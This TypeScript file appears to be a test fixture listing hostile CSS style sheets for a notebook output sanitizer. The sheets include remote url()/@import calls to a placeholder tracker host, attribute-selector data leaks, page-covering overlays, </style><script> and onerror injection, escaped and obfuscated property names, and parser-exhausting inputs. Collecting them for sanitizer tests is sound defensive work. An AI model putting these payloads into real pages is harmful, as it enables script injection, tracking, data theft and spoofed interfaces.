// Style sheets of outputs that want more than their output: to ask the network, to cover, hide or restyle what is around.

const run = "window.pwned=1";
const remote = "https://tracker.invalid/x";
const cover =
  "position:fixed!important;inset:0;z-index:99;display:block;width:100vw;height:100vh;background:red";
const all = `{display:none!important;color:red!important;background:red!important;font-size:40px!important}`;

export const hostileSheets: readonly string[] = [
  `.a{${cover}}`,
  `.a{position:sticky;top:0} .b{position:absolute;left:-500px;top:-500px;width:2000px;height:2000px;background:red}`,
  ".a{margin:-500px;transform:translate(-500px,-500px) scale(50);box-shadow:0 0 0 9999px red;outline:999px solid red}",
  ".a{margin-top:calc(0px - 500px);width:calc(1px * 99999);height:1e9px;translate:-500px;zoom:50}",
  `.a{p\\6fsition:fixed;\\70 osition:fixed;po/**/sition:fixed;position/**/:/**/fixed;inset:0;background:red}`,
  `.a{background:url(${remote});background:\\75rl(${remote});background:u\\72 l("${remote}");background:URL(/**/"${remote}")}`,
  `.a{background-image:image-set("${remote}" 1x);background:-webkit-image-set(url(${remote}) 1x);cursor:url(${remote}),auto}`,
  `.a{list-style:url(${remote});border-image:url(${remote});mask:url(${remote}#x);filter:url(${remote}#x);content:url(${remote})}`,
  `.a::before{content:url(${remote})} .a::after{content:"x";${cover}} .a{--u:url(${remote});background:var(--u)}`,
  `.a{background:var(--u,url(${remote}));width:expression(${run});-moz-binding:url(${remote});behavior:url(${remote})}`,
  `.a{background:cross-fade(url(${remote}),red);background:element(#main);src:url(${remote});background:attr(title url)}`,
  `@import "${remote}";@import url(${remote});@IMPORT/**/"${remote}";@\\69mport "${remote}";`,
  `@charset "utf-7";@namespace x url(${remote});@namespace url(${remote});.a{color:red}`,
  `@font-face{font-family:f;src:url(${remote})} .a{font-family:f} body{font-family:f}`,
  `@layer x{*${all}} @layer x,y; @media all{*${all}} @supports (a:b){*${all}} @container (width>0){*${all}}`,
  `@scope (html){:scope${all}} @scope{*${all}} @starting-style{*${all}} @document url(${remote}){*${all}}`,
  '@property --ink{syntax:"<color>";inherits:false;initial-value:red} @counter-style x{system:fixed;symbols:x}',
  `@keyframes k{to{${cover}}} .a{animation:k 1ms forwards;transition:all 1s} @view-transition{navigation:auto}`,
  `@page{margin:9in} @media print{*${all}} @viewport{width:1px} @-moz-document url(${remote}){*${all}}`,
  `:root${all} html${all} body${all} html body${all} main${all} #main${all} *|*${all}`,
  `:root{--ink:red;--paper:red;color-scheme:dark} .nb-top,.nb-page,.nb-cell,.nb-input,.nb-output${all} pre${all} h1${all}`,
  `:host${all} :host-context(body)${all} ::slotted(*)${all} ::part(x)${all} :scope${all} ::selection${all} ::backdrop${all}`,
  `body:has(.a)${all} :has(.a) main${all} *:has(> .a)${all} :is(html,:has(.a))${all} :not(:has(x))${all}`,
  `.a~*${all} .a+*${all} ~*${all} +*${all} >*${all} .a||*${all} :is(+*)${all} :where(~ .nb-cell)${all}`,
  `:not(.zzz)${all} *:not(.zzz) *${all} :is(html body main *)${all} :where(:root) *${all} :nth-child(n of *)${all}`,
  `.a{x:y;& *{color:red} body &${all} :root &${all} &+*${all} @media all{*${all}} } .b{*{color:red}}`,
  `& *${all} &${all} :is(&,*)${all} html & body${all} .a{@nest body &${all}}`,
  `.a{color:red}} *${all} {} }}}} body${all}`,
  `.a{color:red;{ *${all}`,
  `.a{content:"} *${all} "} .b{color:red} *${all.slice(0, -1)}`,
  `.a{width:1px;} /* */ } */ *${all} /* unfinished ${all}`,
  `.a/*{*/,/*}*/*${all} .a{/**/}/**/*/**/${all}`,
  `.a{color:red}</style><script>${run}</script><style>*${all}`,
  `.a{content:"</style><img src=x onerror=${run}>"} *${all}`,
  `.a{font-family:"</sty\\6c e><script>${run}</script>"} .a[title="</style>"]${all} .\\3c \\2f style\\3e${all}`,
  `<!-- *${all} --> <!--*${all}--> <![CDATA[ *${all} ]]>`,
  `[class]${all} [id^=main]${all} [style*="x"] *${all} input[value^=a]{background:url(${remote}?a)} a[href]:visited${all}`,
  `.a\\:b{color:red} .a\\,*${all} .a\\{*${all} .\\0${all} .\\a *${all} #\\6d ain${all} \\2a${all} ma\\69n${all}`,
  `.a{all:initial;display:contents;display:none;visibility:hidden;opacity:0;content-visibility:hidden;pointer-events:none}`,
  `.a{float:left;height:0;overflow:visible} .b{width:3000px;height:3000px;display:block;background:red;color:red}`,
  `.a{position:fixed;anchor-name:--x;position-anchor:--x;top:anchor(top)} .a{offset-path:url(#x);d:path("")}`,
  `.a{clip-path:none;contain:none!important;overflow:visible!important} div${all} div[class]{contain:none!important}`,
  `.a${"{".repeat(3000)} *${all}`,
  `${":not(".repeat(3000)}*${")".repeat(3000)}${all}`,
  `.a{width:${"calc(".repeat(3000)}1px${")".repeat(3000)}} .a{width:${"(".repeat(9000)}`,
  `.a{grid-template-columns:repeat(99999999,1px);columns:99999999;font-size:99999px;line-height:1e9}`,
  Array.from({ length: 1000 }, (_, index) => `.a${index},.a *:nth-child(${index}),html .a`).join(",") + all,
  `.a{color:red}\n`.repeat(30_000),
  `.a{color:red}\n`.repeat(60_000),
  ["{}", "@", "\\", "'\n"].map((each) => each.repeat(5001)).join("\0.a{color:red}"),
];

/** An output with a style sheet, and what the sheet may meet. */
export function styled(sheet: string): string {
  return `<style>${sheet}</style><div class="a nb-skip" id="main"><p class="b">inside</p><svg class="a" width="9" height="9"><rect class="b" width="9" height="9"/></svg></div><div class="c">behind</div>`;
}
